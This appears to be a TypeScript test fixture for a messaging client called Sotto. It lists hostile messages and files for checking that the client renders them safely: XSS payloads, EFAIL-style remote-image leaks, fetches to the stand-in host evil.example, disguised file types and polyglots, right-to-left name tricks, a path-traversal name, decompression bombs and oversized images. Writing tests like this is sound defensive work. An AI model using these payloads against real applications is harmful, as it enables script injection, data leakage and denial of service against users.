import { deflateRawSync } from 'node:zlib';
import {
  cardinality,
  contactPart,
  disposition,
  eventPart,
  type FileBody,
  type LinkPreviewBody,
  linkPreviewPart,
  type Part,
  placePart,
  pollPart,
  single,
  textPart,
  unitOf,
} from '@sotto/protocol/content';
import { encodeValue as encode } from '../../packages/protocol/src/content/cbor-value.ts';
import { growingPicture, hugePicture, jpegWithHtml, picture, zerosDeflated } from './hostile-files.ts';

/** What a script of an attacker would do if it ran, and where whatever it loads would come from. */
const elsewhere = 'https://evil.example';
const script = `globalThis.pwned=1;fetch('${elsewhere}/ran')`;
const turned = '\u202Egpj.exe\u202C\u2066\u2069';

/** One of them in every field: what runs in some place of some interface. */
export const xss = [
  `<script>${script}</script>`,
  `"><img src=x onerror="${script}">`,
  `<svg/onload=${script}>`,
  `javascript:${script}`,
  `{{constructor.constructor('${script}')()}}`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">`,
].join(' ');

const text = (markdown: string) => textPart(markdown);
const utf8 = (value: string) => new TextEncoder().encode(value);
const mebibyte = 1024 * 1024;

/** Messages of a modified client: what each attacks, and how. */
export const attacks: readonly (readonly [name: string, part: Part])[] = [
  ['XSS strings in a text', text(xss)],
  [
    'script addresses in links',
    text(
      `[a](javascript:${script}) [b](data:text/html,<script>${script}</script>) [c](vbscript:x) <javascript:${script}>`,
    ),
  ],
  [
    'a picture from elsewhere (EFAIL)',
    text(`![x](${elsewhere}/pixel.png) <img src="${elsewhere}/pixel.png">`),
  ],
  ['a picture that swallows what follows (EFAIL)', text(`<img src="${elsewhere}/?`)],
  [
    'pictures from elsewhere in Markdown, by title, by name and by two addresses',
    text(
      `![x](${elsewhere}/a.png "t") ![x][r] [![x](${elsewhere}/b.png)](${elsewhere}/c)\n\n[r]: ${elsewhere}/d.png "t"\n\n![x](//evil.example/e.png) ![x](<${elsewhere}/f.png>)`,
    ),
  ],
  [
    'styles that fetch, in Markdown and in HTML',
    text(
      `<style>@import url(${elsewhere}/a.css);body{background:url(${elsewhere}/b.png)}</style>\n<div style="background:url(${elsewhere}/c.png)">x</div>\n[x](${elsewhere}/d "onmouseover=${script}"){style="background:url(${elsewhere}/e.png)"}`,
    ),
  ],
  [
    'films, sounds, objects and a base from elsewhere',
    text(
      `<base href=${elsewhere}/><video autoplay src=${elsewhere}/a.webm poster=${elsewhere}/b.png></video><audio autoplay src=${elsewhere}/c.mp3></audio><object data=${elsewhere}/d></object><embed src=${elsewhere}/e><img srcset="${elsewhere}/f.png 1x"><svg><image href="${elsewhere}/g.png"/></svg>`,
    ),
  ],
  [
    'schemes in disguise',
    text(
      `[a](java\tscript:${script}) [b](&#106;avascript:${script}) [c](\u0001javascript:${script}) [d](JaVaScRiPt:${script}) [e](data:text/html;base64,PHNjcmlwdD4=) [f](blob:${elsewhere}/x) [g](filesystem:${elsewhere}/x) [h](//evil.example/x) [i](\\\\evil.example\\x) [j](view-source:x)\n\n[k][k]\n\n[k]: javascript:${script}`,
    ),
  ],
  [
    'mentions that are pages',
    text(
      `[@${xss.slice(0, 80)}](sotto:person/${elsewhere}) [@x](sotto:person/"><img src=x>) [@x](sotto:javascript)`,
    ),
  ],
  [
    'styles, frames and forms from elsewhere',
    text(
      `<link rel=stylesheet href=${elsewhere}/a.css><iframe src=${elsewhere}></iframe><form action=${elsewhere}><meta http-equiv=refresh content="0;url=${elsewhere}">`,
    ),
  ],
  ['a reference style link to elsewhere', text(`[x]: ${elsewhere}/pixel.png\n\n![x]`)],
  ['quotes in quotes', text('>'.repeat(60_000))],
  ['brackets that never close', text('['.repeat(60_000))],
  ['stars that never close', text('*a _b **c '.repeat(6000))],
  [
    'lists in lists',
    text(Array.from({ length: 1500 }, (_, at) => `${' '.repeat(2 * (at % 200))}- x`).join('\n')),
  ],
  ['code fences', text('`'.repeat(30_000))],
  ['marks above marks', text(`Z${'\u0352\u035B\u0321'.repeat(20_000)}`)],
  ['text turned around', text(`invoice ${turned}`)],
  // As much as one message has room for; the format itself grows no more than a thousandfold.
  ['a text that grows to 60 MiB', compressed(zerosDeflated(60 * mebibyte), 200_000)],
  ['a text that says it is a gigabyte', compressed(zerosDeflated(60 * mebibyte), 1024 * mebibyte)],
  ['a text that is longer than it says', compressed(deflateRawSync(Buffer.alloc(100_000, 97)), 10)],
  [
    'a poll of 10,000 answers',
    pollPart({
      question: 'x',
      options: Array.from({ length: 10_000 }, (_, at) => at.toString(36)),
      choicesMax: 1,
      closesAt: null,
    }),
  ],
  [
    'a poll with XSS in every field',
    pollPart({
      question: xss.slice(0, 500),
      options: [xss.slice(0, 200), xss.slice(60, 260), turned],
      choicesMax: 1,
      closesAt: null,
    }),
  ],
  [
    'a poll for which more is chosen than there is',
    single(disposition.render, 'application/vnd.sotto.poll+cbor', encode(['x', ['a', 'b'], 9000, null])),
  ],
  ['a place with XSS', placePart({ latitude: 0, longitude: 0, uncertaintyMeters: null, label: xss })],
  [
    'a place that is an address',
    single(disposition.render, 'text/uri-list', utf8(`${elsewhere}/tile.png\r\n`)),
  ],
  [
    'a contact with XSS in every field',
    contactPart({
      name: xss,
      organisation: xss,
      title: xss,
      phones: [{ label: xss, value: xss }],
      emails: [{ label: xss, value: xss }],
      addresses: [{ label: xss, value: xss }],
      urls: [{ label: xss, value: `javascript:${script}` }],
      note: xss,
      accountId: null,
    }),
  ],
  [
    'a contact with a picture from elsewhere',
    single(
      disposition.render,
      'text/vcard',
      utf8(
        `BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Photo\r\nPHOTO:${elsewhere}/face.png\r\nLOGO:${elsewhere}/logo.svg\r\nSOUND:${elsewhere}/a.mp3\r\nEND:VCARD\r\n`,
      ),
    ),
  ],
  [
    'an event with XSS in every field',
    eventPart(
      {
        title: xss.slice(0, 200),
        description: xss,
        place: xss.slice(0, 300),
        startsAt: 1,
        endsAt: 2,
        allDay: false,
        reminderMinutes: 0,
        cancelled: false,
      },
      { uid: xss, writtenAt: 0 },
    ),
  ],
  [
    'an event with an attachment elsewhere and an alarm that mails',
    single(
      disposition.render,
      'text/calendar',
      utf8(
        `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20300101T000000Z\r\nSUMMARY:Attach\r\nATTACH:${elsewhere}/a.html\r\nURL:javascript:${script}\r\nBEGIN:VALARM\r\nACTION:EMAIL\r\nTRIGGER:-PT0M\r\nATTENDEE:mailto:x@evil.example\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
      ),
    ),
  ],
  [
    'an event that repeats for ever',
    single(
      disposition.render,
      'text/calendar',
      utf8(
        'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20300101T000000Z\r\nRRULE:FREQ=SECONDLY\r\nSUMMARY:Ever\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n',
      ),
    ),
  ],
  ['a preview of a page that is a script', preview({ url: `javascript:${script}` })],
  ['a preview of a page that is data', preview({ url: `data:text/html,<script>${script}</script>` })],
  [
    'a preview with XSS in every field',
    preview({ url: `https://a.example/"><img/src=x/onerror="${script}">?'onmouseover='${script}` }),
  ],
  ['a preview that is turned around', preview({ title: turned, siteName: `bank.example${turned}` })],
  [
    'a preview whose picture is SVG',
    preview(
      {},
      utf8(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="${elsewhere}/x"/></svg>`),
    ),
  ],
  [
    'a preview whose picture is HTML too',
    preview({}, jpegWithHtml(`<script>${script}</script>`), 'image/jpeg'),
  ],
  ['a preview whose picture is 30,000 by 30,000', preview({}, hugePicture(30_000, 20_000))],
  ['HTML as the body', single(disposition.render, 'text/html', utf8(`<html><body>${xss}</body></html>`))],
  [
    'SVG as the body',
    single(
      disposition.inline,
      'image/svg+xml',
      utf8(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`),
    ),
  ],
  [
    'a body that is elsewhere',
    {
      kind: 'external',
      disposition: disposition.render,
      language: '',
      fields: [
        'image/png',
        `${elsewhere}/pixel.png`,
        0,
        4,
        0,
        new Uint8Array(),
        new Uint8Array(),
        new Uint8Array(),
        0,
        new Uint8Array(),
        '',
        'pixel.png',
      ],
    },
  ],
  ['parts in parts', nested(12)],
  ['a reaction that is a page', single(disposition.reaction, 'text/plain;charset=utf-8', utf8(xss))],
  [
    'a kind nobody knows',
    single(disposition.render, 'application/vnd.sotto.hologram+cbor', new Uint8Array(1000)),
  ],
];

/** Files whose message says what they are not. */
export const fileAttacks: readonly (readonly [
  name: string,
  bytes: Uint8Array,
  said: Pick<FileBody, 'mediaType' | 'name'> & Partial<FileBody>,
])[] = [
  [
    'SVG as a picture',
    utf8(
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${script}"><image href="${elsewhere}/x.png"/></svg>`,
    ),
    { mediaType: 'image/svg+xml', name: 'drawing.svg' },
  ],
  [
    'SVG that says it is PNG',
    utf8(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`),
    { mediaType: 'image/png', name: 'drawing.png' },
  ],
  [
    'HTML that says it is JPEG',
    utf8(`<html><script>${script}</script></html>`),
    { mediaType: 'image/jpeg', name: 'photo.jpg' },
  ],
  [
    'HTML as what it is',
    utf8(`<html><script>${script}</script></html>`),
    { mediaType: 'text/html', name: 'page.html' },
  ],
  [
    'JPEG that is HTML too',
    jpegWithHtml(`<script>${script}</script>`),
    { mediaType: 'image/jpeg', name: 'both.jpg.html' },
  ],
  [
    'GIF that is a script too',
    utf8(`GIF89a/*${'\0'.repeat(40)}*/=1;${script}`),
    { mediaType: 'image/gif', name: 'both.gif' },
  ],
  ['a name that is turned around', picture(), { mediaType: 'image/png', name: `holiday${turned}` }],
  [
    'a name that is a path and a tag',
    picture(),
    { mediaType: 'image/png', name: `../../<img src=x onerror=pwned=1>.png` },
  ],
  ['a picture of 30,000 by 30,000', hugePicture(30_000), { mediaType: 'image/png', name: 'huge.png' }],
  [
    'PDF with a script',
    utf8(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj`),
    { mediaType: 'application/pdf', name: 'order.pdf' },
  ],
  [
    'a picture of eight by eight whose pixels grow to a gigabyte',
    growingPicture(1024 * mebibyte),
    { mediaType: 'image/png', name: 'small.png' },
  ],
  [
    'a picture of 30,000 by 30,000 that opens once',
    hugePicture(30_000),
    { mediaType: 'image/png', name: 'once.png', viewOnce: true },
  ],
  [
    'SVG that opens once',
    utf8(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`),
    { mediaType: 'image/png', name: 'once.svg', viewOnce: true },
  ],
  [
    'a picture whose small one is 30,000 by 30,000',
    picture(),
    {
      mediaType: 'image/png',
      name: 'large.png',
      description: xss,
      preview: { mediaType: 'image/png', bytes: hugePicture(30_000, 12_000) },
    },
  ],
  [
    'HTML that says it is a film',
    utf8(`<html><script>${script}</script></html>`),
    { mediaType: 'video/webm', name: 'film.webm', description: xss },
  ],
  [
    'a film that goes on as HTML',
    new Uint8Array([0x1a, 0x45, 0xdf, 0xa3, ...utf8(`<html><script>${script}</script></html>`)]),
    { mediaType: 'video/webm', name: 'film.webm' },
  ],
  [
    'a film that is a list of films elsewhere',
    utf8(`#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${elsewhere}/a.ts\n#EXT-X-ENDLIST\n`),
    { mediaType: 'video/mp4', name: 'film.mp4' },
  ],
  [
    'a film whose pieces are elsewhere',
    filmElsewhere(),
    { mediaType: 'video/mp4', name: 'elsewhere.mp4', preview: { mediaType: 'image/png', bytes: picture() } },
  ],
  [
    'HTML that says it is a voice note',
    utf8(`<html><script>${script}</script></html>`),
    { mediaType: 'audio/ogg', name: 'voice.ogg', voiceNote: true, waveform: new Uint8Array(64).fill(255) },
  ],
];

/** What says that it is an MP4 film and that its data is at an address. */
function filmElsewhere(): Uint8Array {
  const box = (type: string, ...parts: Uint8Array[]) => {
    const body = Buffer.concat(parts);
    const head = Buffer.alloc(8);
    head.writeUInt32BE(body.length + 8, 0);
    head.write(type, 4, 'latin1');
    return Buffer.concat([head, body]);
  };
  const url = box('url ', Buffer.alloc(4), utf8(`${elsewhere}/pieces.mp4\0`));
  const references = box('dref', Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), url);
  const media = box('mdia', box('minf', box('dinf', references)));
  return new Uint8Array(
    Buffer.concat([box('ftyp', utf8('isom\0\0\0\0isommp42')), box('moov', box('trak', media))]),
  );
}

/** A text and what its sender says the page behind its link looks like. */
function preview(
  said: Partial<LinkPreviewBody>,
  bytes: Uint8Array | null = null,
  mediaType: 'image/png' | 'image/jpeg' = 'image/png',
): Part {
  const page = {
    url: 'https://a.example/',
    title: xss.slice(0, 300),
    description: xss,
    siteName: xss.slice(0, 100),
  };
  const image = bytes === null ? null : { mediaType, bytes };
  return unitOf([text('see https://a.example/'), linkPreviewPart({ ...page, image, ...said })]);
}

function compressed(deflated: Uint8Array, length: number): Part {
  return single(
    disposition.render,
    'application/vnd.sotto.deflated-markdown+cbor',
    encode([length, deflated]),
  );
}

function nested(depth: number): Part {
  if (depth === 0) return text(xss);
  const parts = [nested(depth - 1)];
  return { kind: 'multi', disposition: disposition.render, language: '', semantics: cardinality.none, parts };
}
